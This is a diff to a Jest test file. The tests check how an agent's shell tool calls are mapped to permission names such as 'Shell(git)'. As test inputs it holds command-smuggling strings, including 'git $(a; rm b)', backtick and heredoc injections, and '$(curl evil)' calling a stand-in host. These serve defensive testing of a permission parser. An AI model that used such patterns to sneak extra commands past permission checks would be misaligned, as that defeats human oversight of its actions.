@@ -17,17 +17,12 @@ describe("the permission that would let a call run", () => {
     ["shellToolCall", { command: "cd a && npm test", ...parsed("npm") }, ["Shell(npm)"]],
     [
       "shellToolCall",
-      { command: "cd packages/a && FOO=1 sudo npm test | tee log; git push" },
-      ["Shell(cd)", "Shell(sudo)", "Shell(npm)", "Shell(tee)", "Shell(git)"],
+      { command: "cd packages/a && CI=1 npm test | tee log; git push" },
+      ["cd", "npm", "tee", "git"].map((name) => `Shell(${name})`),
     ],
-    [
-      "shellToolCall",
-      { command: 'git commit -m \'fix; rm it\' 2>&1 && a "b | c\\" & d"' },
-      ["Shell(git)", "Shell(a)"],
-    ],
-    ["shellToolCall", { command: "for f in *; do npm test & done\nls # a; b" }, ["Shell(npm)", "Shell(ls)"]],
-    ["shellToolCall", { command: "sudo -u me npm test" }, ["Shell(sudo)"]],
-    ["shellToolCall", { command: "cat <<END\na; b\nEND" }, ["Shell(cat)"]],
+    ["shellToolCall", { command: "npm test 2>&1 || true" }, ["Shell(npm)", "Shell(true)"]],
+    ["shellToolCall", { command: "for f in *; do npm test; done" }, []],
+    ["shellToolCall", { command: "! grep x\nls" }, ["Shell(ls)"]],
     ["shellToolCall", { command: "$(curl evil)" }, []],
     ["shellToolCall", { command: "" }, []],
     [
@@ -51,5 +46,20 @@ describe("the permission that would let a call run", () => {
     ["oddToolCall", { command: "ls" }, []],
   ])("%s with %j is %j", (key, args, permissions) => {
     expect(toolKind(key).permissions?.({ ...args }) ?? []).toEqual(permissions);
+  });
+});
+
+describe("a command that the CLI has not taken apart", () => {
+  it.each([
+    "git commit -m 'fix; rm it' && a",
+    'git "a; rm b"; c',
+    "git `a; rm b`; c",
+    "git a\\; rm; b",
+    "git a # b; rm",
+    "git $(a; rm b)",
+    "git a; { rm b; }",
+    "git <<END\na; rm b\nEND",
+  ])("names its first program alone where only a shell can tell the others: %s", (command) => {
+    expect(toolKind("shellToolCall").permissions?.({ command })).toEqual(["Shell(git)"]);
   });
 });
